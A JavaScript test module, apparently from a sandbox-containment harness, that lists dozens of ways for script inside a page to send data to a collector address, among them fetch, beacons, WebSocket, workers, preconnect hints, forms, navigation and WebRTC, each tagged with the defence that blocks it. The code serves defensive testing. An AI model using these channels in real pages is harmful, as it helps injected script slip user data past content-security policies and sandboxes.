// Every way out of a page that we know of. Each function runs inside the page under attack and knows `to`: an address of
// the collector that names the attack, a TCP port and a UDP port that are its own, and `bless`, which makes a script's URL.
// `leaves` marks those that may replace the page: they get a page of their own. `by` says what stops it in regulars.html.

const make = `
  const add = (name, properties, parent = document.head) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(properties)) key.startsWith("@") ? element.setAttribute(key.slice(1), value) : (element[key] = value);
    parent.append(element);
    return element;
  };`;

const POLICY = "policy";
const SANDBOX = "sandbox";
const FRAME = "policy (`frame-src`)";
const LOCK = "lock";

/** What runs before each attack in the page. */
export const PRELUDE = make;

export const ATTACKS = [
  ["requests", [
    ["`fetch`", POLICY, (to) => fetch(to.url)],
    ["`fetch`, `no-cors` and `keepalive`", POLICY, (to) => fetch(to.url, { mode: "no-cors", keepalive: true })],
    ["`XMLHttpRequest`", POLICY, (to) => { const x = new XMLHttpRequest(); x.open("POST", to.url); x.send("data"); }],
    ["`sendBeacon`", POLICY, (to) => navigator.sendBeacon(to.url, "data")],
    ["`WebSocket`", POLICY, (to) => { new WebSocket(to.url.replace("http", "ws")); }],
    ["`EventSource`", POLICY, (to) => { new EventSource(to.url); }],
    ["`WebTransport`", `${POLICY}, ${LOCK}`, (to) => { new WebTransport(`https://127.0.0.1:${to.udp}/`); }],
  ]],
  ["things a page shows or loads", [
    ["image", POLICY, (to) => { new Image().src = to.url; }],
    ["background image", POLICY, (to) => { document.body.style.backgroundImage = `url(${to.url})`; }],
    ["image in SVG", POLICY, (to) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", to.url);
      document.body.append(svg.appendChild(image).parentNode);
    }],
    ["font", POLICY, (to) => new FontFace("x", `url(${to.url})`).load()],
    ["video", POLICY, (to) => { add("video", { src: to.url }, document.body); }],
    ["video's poster", POLICY, (to) => { add("video", { poster: to.url }, document.body); }],
    ["stylesheet", `${POLICY}, ${LOCK}`, (to) => { add("link", { rel: "stylesheet", href: to.url }); }],
    ["`@import` in a style", POLICY, (to) => { add("style", { textContent: `@import url(${to.url})` }); }],
    ["script", POLICY, (to) => { add("script", { "@src": to.url }); }],
    ["`import()`", POLICY, (to) => import(to.url)],
    ["frame", `${POLICY}, ${LOCK}`, (to) => { add("iframe", { src: to.url }, document.body); }],
    ["`<object>`", `${POLICY}, ${LOCK}`, (to) => { add("object", { data: to.url }, document.body); }],
    ["`<embed>`", `${POLICY}, ${LOCK}`, (to) => { add("embed", { src: to.url }, document.body); }],
    ["icon", `${POLICY}, ${LOCK}`, (to) => { add("link", { rel: "icon", href: to.url }); }],
    ["manifest", `${POLICY}, ${LOCK}`, (to) => { add("link", { rel: "manifest", href: to.url }); }],
  ]],
  ["workers", [
    ["worker loaded by URL", POLICY, (to) => { new Worker(to.url); }],
    ["worker's `fetch`", POLICY, (to) => { new Worker(to.bless(`fetch("${to.url}")`)); }],
    ["worker's `XMLHttpRequest`", POLICY, (to) => { new Worker(to.bless(`const x = new XMLHttpRequest(); x.open("GET", "${to.url}"); x.send()`)); }],
    ["worker's `WebSocket`", POLICY, (to) => { new Worker(to.bless(`new WebSocket("${to.url.replace("http", "ws")}")`)); }],
    ["worker's `WebTransport`", POLICY, (to) => { new Worker(to.bless(`new WebTransport("https://127.0.0.1:${to.udp}/")`)); }],
    ["worker's `importScripts`", POLICY, (to) => { new Worker(to.bless(`importScripts("${to.url}")`)); }],
    ["shared worker", `${POLICY}, ${SANDBOX}`, (to) => { new SharedWorker(to.bless(`fetch("${to.url}")`)); }],
    ["service worker", SANDBOX, (to) => navigator.serviceWorker.register(to.url)],
    ["audio worklet", POLICY, (to) => new AudioContext().audioWorklet.addModule(to.url)],
  ]],
  ["hints to load early", [
    ["`prefetch`", `${POLICY}, ${LOCK}`, (to) => { add("link", { rel: "prefetch", href: to.url }); }],
    ["`preload`", `${POLICY}, ${LOCK}`, (to) => { add("link", { rel: "preload", as: "image", href: to.url }); }],
    ["`modulepreload`", `${POLICY}, ${LOCK}`, (to) => { add("link", { rel: "modulepreload", href: to.url }); }],
    ["speculation rules", POLICY, (to) => { add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [to.url] }] }) }); }],
    ["`preconnect`", LOCK, (to) => { add("link", { rel: "preconnect", href: to.tcp }); }],
    ["`preconnect`, element from another document", LOCK, (to) => {
      const link = document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link", null).documentElement);
      link.setAttribute("rel", "preconnect");
      link.setAttribute("href", to.tcp);
      document.head.append(link);
    }],
    ["`preconnect`, customised element", LOCK, (to) => {
      class Link extends HTMLLinkElement {}
      customElements.define("x-link", Link, { extends: "link" });
      document.head.append(Object.assign(new Link(), { rel: "preconnect", href: to.tcp }));
    }],
    ["`preconnect`, from HTML text", LOCK, (to) => { document.body.insertAdjacentHTML("beforeend", `<link rel=preconnect href="${to.tcp}">`); }],
    ["`preconnect`, from HTML text, sanitized", LOCK, (to) => { document.body.appendChild(document.createElement("div")).setHTML(`<link rel=preconnect href="${to.tcp}">`, { sanitizer: {} }); }],
    ["`preconnect`, from a parser", LOCK, (to) => { document.head.append(document.importNode(new DOMParser().parseFromString(`<link rel=preconnect href="${to.tcp}">`, "text/html").querySelector("link"), true)); }],
    ["`preconnect`, from a fragment", LOCK, (to) => { document.head.append(document.createRange().createContextualFragment(`<link rel=preconnect href="${to.tcp}">`)); }],
  ]],
  ["forms and links", [
    ["form", SANDBOX, (to) => { add("form", { action: to.url, method: "POST" }, document.body).submit(); }, "leaves"],
    ["form to a new window", SANDBOX, (to) => { add("form", { action: to.url, target: "_blank" }, document.body).requestSubmit(); }, "leaves"],
    ["link's `ping`", POLICY, (to) => { add("a", { href: "about:srcdoc#x", ping: to.url }, document.body).click(); }, "leaves"],
    ["download of an address", FRAME, (to) => { add("a", { href: to.url, download: "x" }, document.body).click(); }, "leaves"],
  ]],
  ["new windows", [
    ["`window.open`", SANDBOX, (to) => { window.open(to.url); }, "leaves"],
    ["`window.open`, `noopener`", SANDBOX, (to) => { window.open(to.url, "_blank", "noopener"); }, "leaves"],
    ["link to a new window", SANDBOX, (to) => { add("a", { href: to.url, target: "_blank" }, document.body).click(); }, "leaves"],
  ]],
  ["going elsewhere, data in the address", [
    ["`location = …`", FRAME, (to) => { location.href = to.url; }, "leaves"],
    ["link", FRAME, (to) => { add("a", { href: to.url }, document.body).click(); }, "leaves"],
    ["`window.open` onto itself", FRAME, (to) => { window.open(to.url, "_self"); }, "leaves"],
    ["`<meta>` refresh", `${FRAME}, ${LOCK}`, (to) => { add("meta", { httpEquiv: "refresh", content: `0;url=${to.url}` }); }, "leaves"],
    ["Navigation API", FRAME, (to) => { navigation.navigate(to.url).finished.catch(() => {}); }, "leaves"],
    ["form onto itself", SANDBOX, (to) => { add("form", { action: to.url }, document.body).submit(); }, "leaves"],
    ["the tab", SANDBOX, (to) => { top.location.href = to.url; }, "leaves"],
    ["the tab, by a link", SANDBOX, (to) => { add("a", { href: to.url, target: "_top" }, document.body).click(); }, "leaves"],
    ["the shell", SANDBOX, (to) => { parent.location.replace(to.url); }, "leaves"],
    ["the shell, by a link", SANDBOX, (to) => { add("a", { href: to.url, target: "_parent" }, document.body).click(); }, "leaves"],
    ["a new frame", `${FRAME}, ${LOCK}`, (to) => { add("iframe", {}, document.body).contentWindow.location = to.url; }],
    ["a page made of a Blob", FRAME, (to) => { location.href = URL.createObjectURL(new Blob([`<img src="${to.url}">`], { type: "text/html" })); }, "leaves"],
  ]],
  ["WebRTC (packets to a STUN server)", [
    ["`RTCPeerConnection`", LOCK, async (to) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    }],
    ["… of a new frame", `${LOCK}, ${SANDBOX}`, async (to) => {
      const peer = new (add("iframe", {}, document.body).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: to.stun }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    }],
    ["… of a page made of a Blob", FRAME, (to) => {
      const script = `const peer = new RTCPeerConnection({iceServers:[{urls:"${to.stun}"}]}); peer.createDataChannel("x"); peer.setLocalDescription()`;
      location.href = URL.createObjectURL(new Blob([`<script>${script}</script>`], { type: "text/html" }));
    }, "leaves"],
  ]],
];
